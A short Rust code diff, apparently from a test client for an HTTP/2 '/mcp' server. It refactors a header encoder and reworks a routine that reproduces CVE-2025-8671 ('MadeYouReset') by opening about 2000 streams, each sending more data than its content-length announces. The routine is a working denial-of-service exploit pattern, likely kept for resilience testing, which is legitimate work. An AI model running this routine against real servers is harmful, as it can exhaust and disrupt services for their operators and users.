@@ -76,10 +76,14 @@ impl Frames {
     }
 }
 
-/// The fields of a request for `/mcp`, in literals that no table keeps.
-pub fn head(method: &str, token: &str) -> Vec<u8> {
+/// A field of a head, in literals that no table keeps.
+fn field(name: &str, value: &str) -> Vec<u8> {
     let text = |text: &str| [&[u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
-    let field = |name: &str, value: &str| [vec![0], text(name), text(value)].concat();
+    [vec![0], text(name), text(value)].concat()
+}
+
+/// The fields of a request for `/mcp`.
+pub fn head(method: &str, token: &str) -> Vec<u8> {
     [
         field(":method", method),
         field(":scheme", "http"),
@@ -112,9 +116,10 @@ pub fn head_without_end(client: &mut Frames) {
 /// CVE-2025-8671, MadeYouReset: requests with a fault, for which the server takes them back itself.
 pub fn made_you_reset(client: &mut Frames) {
     for stream in (1..4000).step_by(2) {
-        let sent = client.begin_upload(stream, UNKNOWN);
-        // a window that grows by nothing is an error of the stream
-        if sent.and_then(|()| client.send(WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes())).is_err() {
+        // more data than was announced is an error of the stream
+        let head = [head("POST", UNKNOWN), field("content-length", "1")].concat();
+        let sent = client.send(HEADERS, END_HEADERS, stream, &head);
+        if sent.and_then(|()| client.send(DATA, 0, stream, b"{}")).is_err() {
             break;
         }
     }
